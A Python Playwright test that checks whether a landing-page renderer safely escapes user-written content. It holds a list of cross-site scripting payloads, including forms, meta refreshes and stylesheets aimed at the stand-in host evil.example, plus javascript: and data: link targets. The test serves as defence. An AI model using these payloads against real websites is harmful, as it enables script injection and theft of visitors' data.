"""What strangers would write into a landing page, drawn in a real browser that nothing protects."""

from datetime import UTC
from uuid import UUID

import pytest
from playwright.async_api import Page, Route

from tests.web.chromium import launched
from watchword.features.pages.blocks import (
    Block,
    Button,
    Heading,
    Legal,
    Offer,
    Picture,
    PictureId,
    Text,
)
from watchword.features.pages.content import Content, OnOffer, Size
from watchword.features.pages.rules import PageId
from watchword.features.rewards.rules import RewardId
from watchword.web.html.page_content import Press, drawn

pytestmark = pytest.mark.browser

HERE = "https://shop.example.com/page"
SHOT, MUG = PictureId(UUID(int=4)), RewardId(UUID(int=5))
PAYLOADS = [
    "<script>hit(1)</script>",
    "<img src=x onerror=hit(2)>",
    "<svg onload=hit(3)>",
    '"><script>hit(4)</script>',
    "'><img src=x onerror='hit(5)'>",
    "</textarea></title></style><script>hit(6)</script>",
    "<iframe src=javascript:hit(7)></iframe>",
    "<iframe srcdoc='<script>parent.hit(8)</script>'></iframe>",
    "<form action=https://evil.example/><input name=pin autofocus onfocus=hit(9)></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/10'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/12.css>",
    "<style>@import 'https://evil.example/13.css';</style>",
    "<object data=https://evil.example/14></object>",
    "<embed src=https://evil.example/15>",
    "<details open ontoggle=hit(16)>",
    "<math><mtext><script>hit(17)</script></mtext></math>",
    "<a href=javascript:hit(18) id=bait>x</a>",
    "<button formaction=https://evil.example/19>x</button>",
    "<video><source onerror=hit(20)></video>",
    "<body onload=hit(21)>",
    "<!--><script>hit(22)</script-->",
    "&lt;script&gt;hit(23)&lt;/script&gt;",
    "\u003cscript\u003ehit(24)\u003c/script\u003e",
    '<noscript><p title="</noscript><img src=x onerror=hit(25)>">',
    '" onmouseover=hit(26) autofocus onfocus=hit(26) x="',
    "` onerror=hit(27) `",
    "{{7*7}}{0.__class__}${7*7}%(x)s<%= 7*7 %>#{7*7}",
]
TARGETS = [
    "javascript:hit(30)",
    "data:text/html,<script>hit(31)</script>",
    " javascript:hit(32)",
    'https://evil.example@shop.example.com/"onclick=hit(33) x="',
    "//evil.example/34",
]


def blocks(said: str) -> list[Block]:
    return [
        *(Heading(said), Text(f"{said}\n- {said}"), Offer(said, said, MUG)),
        *(Button(said, "https://shop.example.com/"), Legal(said), Picture(SHOT, said)),
    ]


def shown(press: Press | None) -> str:
    said = [block for each in PAYLOADS for block in blocks(each)]
    content = Content(
        page_id=PageId(UUID(int=1)),
        version=1,
        locale="en",
        blocks=[*said, *(Button("x", each) for each in TARGETS)],
        pictures={SHOT: [Size(width=390, height=10, ticket="t")]},
        offers={MUG: OnOffer(name=PAYLOADS[1], points=1, ends_at=None)},
    )
    return f"<!doctype html><title>x</title>{drawn(content, pictures='/p/', press=press, zone=UTC)}"


async def opened(page: Page, html: str) -> list[str]:
    """Open what was drawn without any policy of contents, and give what the browser asked for."""
    asked: list[str] = []

    async def answer(route: Route) -> None:
        asked.append(route.request.url)
        if route.request.url == HERE:
            await route.fulfill(body=html, content_type="text/html; charset=utf-8")
        else:
            await route.fulfill(status=404)

    await page.add_init_script("window.hits = []; window.hit = (n) => window.hits.push(n)")
    await page.route("**/*", answer)
    await page.goto(HERE, wait_until="networkidle")
    return asked


async def test_whatever_somebody_writes_is_read_to_the_letter_and_does_nothing() -> None:
    for press in (None, Press("/go", (("proof", PAYLOADS[3]),))):
        async with launched("attacked page") as browser:
            page = await browser.new_page()
            asked = await opened(page, shown(press))
            for each in await page.locator("h2, p, li, img").all():
                await each.dispatch_event("mouseover")

            assert await page.evaluate("window.hits") == []
            assert {*asked} <= {HERE, "https://shop.example.com/p/t"}
            assert page.url == HERE
            assert await page.locator("script, iframe, object, svg, base, meta, style").count() == 0
            headings = await page.locator(".landing > :is(h1, h2)").all_text_contents()
            assert headings == PAYLOADS
            assert await page.locator(".landing .legal p").all_text_contents() == [
                each.strip() for each in PAYLOADS
            ]
            alts = await page.eval_on_selector_all("img", "all => all.map((each) => each.alt)")
            assert alts == PAYLOADS
            events = "all => all.flatMap((e) => [...e.attributes].map((a) => a.name))"
            names = {*await page.eval_on_selector_all(".landing *", events)}
            assert not [each for each in names if each.startswith("on") or each == "style"]
            forms = "all => all.map((each) => each.action)"
            led = {*await page.eval_on_selector_all("form", forms)}
            assert led == (set() if press is None else {"https://shop.example.com/go"})
            leads = "all => all.map((each) => each.href)"
            hrefs = {*await page.eval_on_selector_all("a[href]", leads)}
            assert hrefs == ({"https://shop.example.com/"} if press is None else set())
